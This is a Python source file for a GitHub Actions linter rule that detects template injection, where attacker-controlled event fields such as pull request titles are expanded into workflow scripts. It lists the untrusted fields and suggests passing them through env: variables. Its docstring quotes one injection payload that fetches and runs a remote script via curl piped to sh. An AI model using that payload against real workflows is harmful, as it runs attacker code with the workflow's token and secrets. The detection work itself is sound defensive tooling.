"""untrusted-input: attacker-controlled event fields expanded into scripts (template injection)."""

from __future__ import annotations

from typing import TYPE_CHECKING

from actiongen.findings import Severity
from actiongen.model.flow import Flow, output_flows
from actiongen.rules._hygiene import expressions_say
from actiongen.rules.base import Context, Rule

if TYPE_CHECKING:
    from collections.abc import Iterator

    from actiongen.findings import Finding

_AUTHOR = ("message", "author.name", "author.email", "committer.name", "committer.email")

#: Event fields anyone who can open an issue, comment, push a branch to a fork or name a
#: commit can set to arbitrary text (GitHub Security Lab's list, as used by actionlint
#: and zizmor).  ``*`` stands for any array index.
UNTRUSTED: tuple[str, ...] = (
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.event.check_suite.head_branch",
    "github.event.check_run.check_suite.head_branch",
    *(f"github.event.commits.*.{f}" for f in _AUTHOR),
    *(f"github.event.head_commit.{f}" for f in _AUTHOR),
    *(f"github.event.workflow_run.head_commit.{f}" for f in _AUTHOR),
    *(f"github.event.merge_group.head_commit.{f}" for f in _AUTHOR),
)


def untrusted_field(flow: Flow) -> str | None:
    """The untrusted field ``flow`` carries into the result, or None.

    A plain object (``${{ github.event.pull_request }}``) renders as the word
    ``Object``; only through ``toJSON`` does its content reach the text.
    (``Flow.reaches`` against each pattern, done once per distinct flow.)
    """
    key = (flow.path, flow.whole)
    if key in _FIELDS:
        return _FIELDS[key]
    found = _untrusted(flow.path, flow.whole)
    if len(_FIELDS) >= 4096:
        _FIELDS.clear()
    _FIELDS[key] = found
    return found


#: Flows already looked up (the same few recur in every file), bounded.
_FIELDS: dict[tuple[str, bool], str | None] = {}
#: UNTRUSTED, lower-cased and split at dots, split once.
_PATTERN_PARTS: list[list[str]] = []


def _untrusted(path: str, whole: bool) -> str | None:
    mine = path.split(".")
    # Every pattern starts with `github`: a path starting with anything else (but `*`)
    # reaches none of them.
    if mine[0] != "github" and mine[0] != "*":
        return None
    if not _PATTERN_PARTS:
        _PATTERN_PARTS.extend(p.lower().split(".") for p in UNTRUSTED)
    n = len(mine)
    for theirs in _PATTERN_PARTS:
        if n > len(theirs) or (n < len(theirs) and not whole):
            continue
        if all(a == b or a == "*" or b == "*" for a, b in zip(mine, theirs, strict=False)):
            return path if not whole else f"toJSON({path})"
    return None


class UntrustedInput(Rule):
    """
    ## What it does
    Reports event fields that outsiders control—pull request titles, bodies and branch
    names, issue and comment bodies, commit messages and author names, `github.head_ref`,
    and the like—expanded with `${{ }}` into a `run:` script or into the `script:` of
    `actions/github-script`, in workflows and composite actions. Expressions whose result
    is not the field's text (`${{ contains(github.event.issue.title, 'bug') }}`) are not
    reported.

    ## Why is this bad?
    GitHub substitutes the text into the script before the shell (or Node) runs it, so the
    text becomes code. A pull request titled `"; curl evil.sh | sh; echo "` runs the
    attacker's commands with the workflow's token and secrets. This is *template
    injection*, the most common GitHub Actions vulnerability.

    ## Example
    ```yaml
        - run: echo "Title: ${{ github.event.pull_request.title }}"
    ```

    ## Use instead
    Pass the value through an environment variable and quote it; the shell then treats it
    as data:
    ```yaml
        - run: echo "Title: $TITLE"
          env:
            TITLE: ${{ github.event.pull_request.title }}
    ```
    """

    id = "untrusted-input"
    severity = Severity.ERROR
    summary = "an attacker-controlled event field is expanded into a script"
    applies_to = frozenset({"workflow", "action"})

    def check(self, ctx: Context) -> Iterator[Finding]:
        # A flow reaches an untrusted field only through a path `github.head_ref`,
        # `github.event...` or `github.*` (`.*`, or an index that is not a string), or
        # through `toJSON(github)`: a file whose expressions hold none of these words
        # and characters has none.
        if not expressions_say(ctx, ("head_ref", "event", "tojson", "*", "[")):
            return
        for found in ctx.script_expressions:
            if found.command_line:  # only what runs as code, not a command line
                continue
            job, step, scalar, where = found.job, found.step, found.scalar, found.where
            for expr in found.expressions:
                fields = sorted(
                    {f for flow in output_flows(expr.text) if (f := untrusted_field(flow))}
                )
                if not fields:
                    continue
                shown = ", ".join(f"`{f}`" for f in fields)
                var = fields[0].rsplit(".", 1)[-1].strip(")").upper().replace("-", "_")
                use = f"process.env.{var}" if scalar is not step.run else f'"${var}"'
                yield self.finding(
                    ctx, expr.span,
                    f"text outsiders control ({shown}) is expanded into the {where}: "
                    "crafted text runs as code (template injection)",
                    f"pass it through `env:` (`{var}: ${{{{ {expr.text} }}}}`) and use "
                    f"{use} in the script",
                    job=job, step=step,
                )
